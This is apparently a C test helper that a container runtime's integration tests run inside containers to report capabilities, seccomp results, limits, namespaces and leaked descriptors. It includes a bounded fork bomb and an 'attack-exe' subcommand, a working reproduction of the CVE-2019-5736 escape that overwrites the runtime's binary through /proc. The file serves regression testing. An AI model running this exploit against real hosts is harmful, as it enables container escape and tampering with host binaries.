// berth-probe: a tiny static helper that integration tests run inside
// containers to ask the kernel what the container really got (crun's
// tests/init.c does the same job). One subcommand per question; output is
// plain text, one fact per line, so the tests can match it exactly.
//
// Static because the container's rootfs is a bare busybox tree with no libc.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// keyctl(2) constants, so that no libkeyutils header is needed.
#define PROBE_KEYCTL_GET_KEYRING_ID 0
#define PROBE_KEY_SPEC_SESSION_KEYRING -3

static const char* err_name(int err) {
  const char* name = strerrorname_np(err);
  return name ? name : "EUNKNOWN";
}

static int fail(const char* what) {
  fprintf(stderr, "probe: %s: %s\n", what, err_name(errno));
  return 1;
}

static int cmd_pid(void) {
  printf("%d\n", (int)getpid());
  return 0;
}

static int cmd_hostname(void) {
  char name[HOST_NAME_MAX + 1] = {0};
  if (gethostname(name, sizeof name - 1) != 0) return fail("gethostname");
  printf("%s\n", name);
  return 0;
}

static int cmd_cat(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return fail(path);
  char buf[8192];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)n, stdout);
  int saved = errno;
  close(fd);
  if (n < 0) {
    errno = saved;
    return fail(path);
  }
  return 0;
}

static int cmd_status(void) {
  static const char* const keys[] = {
      "CapEff:",     "CapBnd:", "CapPrm:", "CapInh:", "CapAmb:", "Seccomp:",
      "NoNewPrivs:", "Uid:",    "Gid:",    "SigBlk:", "SigIgn:"};
  FILE* f = fopen("/proc/self/status", "re");
  if (!f) return fail("/proc/self/status");
  char line[512];
  while (fgets(line, sizeof line, f)) {
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
      if (strncmp(line, keys[i], strlen(keys[i])) == 0) fputs(line, stdout);
    }
  }
  fclose(f);
  return 0;
}

// Each of these is denied by a default container seccomp profile, and each
// would otherwise succeed or fail with an errno other than EPERM for root
// without CAP_SYS_ADMIN (keyctl in particular needs no capability).
static int cmd_syscall_denied(void) {
  long r = syscall(SYS_keyctl, PROBE_KEYCTL_GET_KEYRING_ID, PROBE_KEY_SPEC_SESSION_KEYRING, 0);
  printf("keyctl=%s\n", r >= 0 ? "ok" : err_name(errno));
  // unshare() changes this process only; the probe exits right after.
  r = unshare(CLONE_NEWUSER);
  printf("unshare=%s\n", r == 0 ? "ok" : err_name(errno));
  // A target that does not exist: harmless if run outside a container.
  r = mount("none", "/nonexistent-probe-target", "tmpfs", 0, NULL);
  printf("mount=%s\n", r == 0 ? "ok" : err_name(errno));
  return 0;
}

// For each syscall number: "N=ok" or "N=<errno name>", the syscall made with
// all-zero arguments (harmless for the numbers the tests pass: the filter,
// not the kernel, is what answers).
static int cmd_syscall_errno(int argc, char** argv) {
  for (int i = 0; i < argc; i++) {
    long nr = strtol(argv[i], NULL, 10);
    long r = syscall(nr, 0, 0, 0, 0, 0, 0);
    printf("%ld=%s\n", nr, r >= 0 ? "ok" : err_name(errno));
  }
  return 0;
}

static int cmd_write(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) {
    printf("%s\n", err_name(errno));
    return 0;
  }
  close(fd);
  printf("ok\n");
  return 0;
}

static int cmd_alloc(long mb) {
  long page = sysconf(_SC_PAGESIZE);
  for (long i = 0; i < mb; i++) {
    // Never freed: the point is to hold the memory until exit.
    char* p = malloc(1 << 20);
    if (!p) return fail("malloc");
    for (long off = 0; off < (1 << 20); off += page) p[off] = 1;
  }
  printf("ok\n");
  return 0;
}

static int cmd_forkbomb(int n) {
  pid_t* kids = calloc((size_t)n, sizeof *kids);
  if (!kids) return fail("calloc");
  int forks = 0, first_err = 0;
  for (int i = 0; i < n; i++) {
    pid_t pid = fork();
    if (pid == 0) {
      for (;;) pause();
    }
    if (pid < 0) {
      if (!first_err) first_err = errno;
      continue;
    }
    kids[forks++] = pid;
  }
  for (int i = 0; i < forks; i++) kill(kids[i], SIGKILL);
  for (int i = 0; i < forks; i++) waitpid(kids[i], NULL, 0);
  printf("forks=%d errno=%s\n", forks, first_err ? err_name(first_err) : "none");
  free(kids);
  return 0;
}

static double now(clockid_t clock) {
  struct timespec ts;
  clock_gettime(clock, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmd_spin(double seconds) {
  double start = now(CLOCK_MONOTONIC);
  volatile unsigned long sink = 0;
  while (now(CLOCK_MONOTONIC) - start < seconds) {
    for (int i = 0; i < 10000; i++) sink = sink + (unsigned long)i;
  }
  printf("cpu_ms=%ld wall_ms=%ld\n", (long)(now(CLOCK_PROCESS_CPUTIME_ID) * 1000),
         (long)((now(CLOCK_MONOTONIC) - start) * 1000));
  return 0;
}

static void print_limit(rlim_t v) {
  if (v == RLIM_INFINITY)
    printf("unlimited");
  else
    printf("%llu", (unsigned long long)v);
}

static int cmd_rlimit(const char* name) {
  static const struct {
    const char* name;
    int resource;
  } table[] = {{"NOFILE", RLIMIT_NOFILE}, {"NPROC", RLIMIT_NPROC},     {"CORE", RLIMIT_CORE},
               {"STACK", RLIMIT_STACK},   {"MEMLOCK", RLIMIT_MEMLOCK}, {"AS", RLIMIT_AS},
               {"CPU", RLIMIT_CPU},       {"FSIZE", RLIMIT_FSIZE}};
  for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
    if (strcmp(name, table[i].name) != 0) continue;
    struct rlimit rl;
    if (getrlimit(table[i].resource, &rl) != 0) return fail("getrlimit");
    print_limit(rl.rlim_cur);
    printf(" ");
    print_limit(rl.rlim_max);
    printf("\n");
    return 0;
  }
  fprintf(stderr, "probe: unknown rlimit %s\n", name);
  return 2;
}

static int cmd_id(void) {
  gid_t groups[256];
  int n = getgroups(256, groups);
  if (n < 0) return fail("getgroups");
  printf("uid=%u gid=%u groups=", (unsigned)getuid(), (unsigned)getgid());
  for (int i = 0; i < n; i++) printf(i ? ",%u" : "%u", (unsigned)groups[i]);
  printf("\n");
  return 0;
}

static int cmd_sleep(double seconds) {
  struct timespec ts = {(time_t)seconds, (long)((seconds - (double)(time_t)seconds) * 1e9)};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
  }
  return 0;
}

static int print_link(const char* path) {
  char target[PATH_MAX];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0) return fail(path);
  target[n] = '\0';
  printf("%s\n", target);
  return 0;
}

static int cmd_ns(const char* name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/ns/%s", name);
  return print_link(path);
}

// Any fd beyond stdio is a leak from the runtime (runc CVE-2024-21626 leaked
// a host cgroup directory fd that let the container escape via its cwd).
static int cmd_fds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) return fail("/proc/self/fd");
  int self = dirfd(d);
  struct dirent* e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd <= 2 || fd == self) continue;
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = '\0';
    printf("%d %s\n", fd, target);
  }
  closedir(d);
  return 0;
}

static int cmd_cwd(void) {
  char buf[PATH_MAX];
  // getcwd() fails with ENOENT or returns "(unreachable)..." when the cwd is
  // outside the process's root: exactly what the CVE-2024-21626 check wants.
  if (!getcwd(buf, sizeof buf)) return fail("getcwd");
  printf("%s\n", buf);
  return 0;
}

// umask(2) can only be read by setting it: set it back at once.
static int cmd_umask(void) {
  mode_t mask = umask(0);
  umask(mask);
  printf("%04o\n", (unsigned)mask);
  return 0;
}

static int cmd_mode(const char* path) {
  struct stat st;
  if (stat(path, &st) != 0) return fail(path);
  printf("%04o\n", (unsigned)(st.st_mode & 07777));
  return 0;
}

// 0xffffffff queries the execution domain without changing it.
static int cmd_personality(void) {
  int p = personality(0xffffffff);
  if (p < 0) return fail("personality");
  printf("%#x\n", (unsigned)p);
  return 0;
}

// process.scheduler and process.ioPriority as the kernel reports them:
// "policy N nice N ioprio 0xN" (ioprio is class << 13 | level).
static int cmd_sched(void) {
  int policy = sched_getscheduler(0);
  if (policy < 0) return fail("sched_getscheduler");
  errno = 0;
  int nice = getpriority(PRIO_PROCESS, 0);
  if (nice == -1 && errno != 0) return fail("getpriority");
  long ioprio = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);
  if (ioprio < 0) return fail("ioprio_get");
  printf("policy %d nice %d ioprio %#lx\n", policy & ~SCHED_RESET_ON_FORK, nice, ioprio);
  return 0;
}

// Like `write`, the errno is the answer a test wants (EACCES from a
// non-dumpable process's /proc/<pid>/exe), so it goes to stdout.
static int cmd_readlink(const char* path) {
  char target[PATH_MAX];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0) {
    printf("%s\n", err_name(errno));
    return 0;
  }
  target[n] = '\0';
  printf("%s\n", target);
  return 0;
}

// ---- attack-exe: the CVE-2019-5736 attacker ------------------------------
//
// probe attack-exe LOG [PID]: finds a process of the container whose
// /proc/PID/exe is not this probe (the runtime's binary, when the runtime
// exec'd `#!/proc/self/exe`), or takes PID, opens that exe read-only, waits
// for the process to exit (not with PID: pid 1 stays), tries to make its
// mount writable (remount of /sbin/berth-init, mount_setattr on the handle;
// both need CAP_SYS_ADMIN), then reopens the handle through /proc/self/fd
// for writing (retrying ETXTBSY for a while) and overwrites its first bytes.
// Every step is appended to LOG as one line; the last line is "done".

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int open_exe_of(pid_t pid, const struct stat* own) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return -1;
  struct stat st;
  if (own && fstat(fd, &st) == 0 && st.st_dev == own->st_dev && st.st_ino == own->st_ino) {
    close(fd);
    return -1;
  }
  return fd;
}

static int find_target(const struct stat* own, pid_t* target) {
  DIR* d = opendir("/proc");
  if (!d) return -1;
  struct dirent* e;
  int fd = -1;
  while (fd < 0 && (e = readdir(d)) != NULL) {
    char* end;
    long pid = strtol(e->d_name, &end, 10);
    if (*end != '\0' || pid <= 0 || pid == getpid()) continue;
    fd = open_exe_of((pid_t)pid, own);
    if (fd >= 0) *target = (pid_t)pid;
  }
  closedir(d);
  return fd;
}

static int cmd_attack_exe(const char* log, const char* pid_arg) {
  FILE* out = fopen(log, "ae");
  if (!out) return fail(log);
  setvbuf(out, NULL, _IOLBF, 0);
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return fail("/proc/self/exe");
  pid_t target = pid_arg ? (pid_t)atoi(pid_arg) : 0;
  int fd = -1;
  double deadline = now_s() + 120;
  while (fd < 0 && now_s() < deadline) {
    if (pid_arg) {
      fd = open_exe_of(target, NULL);
      if (fd < 0) usleep(20000);
    } else {
      fd = find_target(&own, &target);
      if (fd < 0) sched_yield();
    }
  }
  if (fd < 0) {
    fprintf(out, "not found\ndone\n");
    return 1;
  }
  struct stat st;
  struct statfs sfs;
  char link[PATH_MAX] = "?";
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)target);
  ssize_t n = readlink(path, link, sizeof link - 1);
  if (n >= 0) link[n] = '\0';
  fstat(fd, &st);
  fstatfs(fd, &sfs);
  fprintf(out, "found pid=%d dev=%lu ino=%lu fstype=0x%lx exe=%s\n", (int)target,
          (unsigned long)st.st_dev, (unsigned long)st.st_ino, (unsigned long)sfs.f_type, link);
  if (!pid_arg) {
    snprintf(path, sizeof path, "/proc/%d", (int)target);
    deadline = now_s() + 120;
    while (access(path, F_OK) == 0 && now_s() < deadline) usleep(5000);
    fprintf(out, "target %s\n", access(path, F_OK) == 0 ? "still running" : "exited");
  }
  if (access("/sbin/berth-init", F_OK) == 0) {
    int r = mount(NULL, "/sbin/berth-init", NULL, MS_REMOUNT | MS_BIND, NULL);
    fprintf(out, "remount /sbin/berth-init rw: %s\n", r == 0 ? "OK" : err_name(errno));
  }
  struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
  long r = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
  fprintf(out, "mount_setattr rw: %s\n", r == 0 ? "OK" : err_name(errno));
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int wfd = -1;
  deadline = now_s() + (pid_arg ? 2 : 20);
  for (;;) {
    wfd = open(path, O_WRONLY | O_CLOEXEC);
    if (wfd >= 0 || errno != ETXTBSY || now_s() >= deadline) break;
    usleep(20000);
  }
  fprintf(out, "open-write: %s\n", wfd >= 0 ? "OK" : err_name(errno));
  if (wfd >= 0) {
    static const char kPwned[] = "PWNED-BY-CONTAINER";
    ssize_t w = pwrite(wfd, kPwned, sizeof kPwned - 1, 0);
    fprintf(out, "write: %s\n", w == (ssize_t)(sizeof kPwned - 1) ? "OK" : err_name(errno));
  }
  fprintf(out, "done\n");
  return 0;
}

static int usage(void) {
  fprintf(
      stderr,
      "usage: probe pid|hostname|status|syscall-denied|mountinfo|id|exe|fds|cwd|umask|personality\n"
      "       probe sched\n"
      "       probe cat FILE|write FILE|alloc MB|forkbomb N|spin SECONDS|rlimit NAME\n"
      "       probe sleep SECONDS|exit N|ns NAME|mode FILE|readlink PATH\n"
      "       probe syscall-errno NR...\n"
      "       probe attack-exe LOG [PID]\n");
  return 2;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return usage();
  const char* cmd = argv[1];
  const char* arg = argc > 2 ? argv[2] : NULL;
  if (strcmp(cmd, "pid") == 0) return cmd_pid();
  if (strcmp(cmd, "hostname") == 0) return cmd_hostname();
  if (strcmp(cmd, "status") == 0) return cmd_status();
  if (strcmp(cmd, "syscall-denied") == 0) return cmd_syscall_denied();
  if (strcmp(cmd, "mountinfo") == 0) return cmd_cat("/proc/self/mountinfo");
  if (strcmp(cmd, "id") == 0) return cmd_id();
  if (strcmp(cmd, "exe") == 0) return print_link("/proc/self/exe");
  if (strcmp(cmd, "fds") == 0) return cmd_fds();
  if (strcmp(cmd, "cwd") == 0) return cmd_cwd();
  if (strcmp(cmd, "umask") == 0) return cmd_umask();
  if (strcmp(cmd, "personality") == 0) return cmd_personality();
  if (strcmp(cmd, "sched") == 0) return cmd_sched();
  if (!arg) return usage();
  if (strcmp(cmd, "cat") == 0) return cmd_cat(arg);
  if (strcmp(cmd, "write") == 0) return cmd_write(arg);
  if (strcmp(cmd, "alloc") == 0) return cmd_alloc(atol(arg));
  if (strcmp(cmd, "forkbomb") == 0) return cmd_forkbomb(atoi(arg));
  if (strcmp(cmd, "spin") == 0) return cmd_spin(atof(arg));
  if (strcmp(cmd, "rlimit") == 0) return cmd_rlimit(arg);
  if (strcmp(cmd, "sleep") == 0) return cmd_sleep(atof(arg));
  if (strcmp(cmd, "exit") == 0) return atoi(arg);
  if (strcmp(cmd, "ns") == 0) return cmd_ns(arg);
  if (strcmp(cmd, "mode") == 0) return cmd_mode(arg);
  if (strcmp(cmd, "readlink") == 0) return cmd_readlink(arg);
  if (strcmp(cmd, "syscall-errno") == 0) return cmd_syscall_errno(argc - 2, argv + 2);
  if (strcmp(cmd, "attack-exe") == 0) return cmd_attack_exe(arg, argc > 3 ? argv[3] : NULL);
  return usage();
}
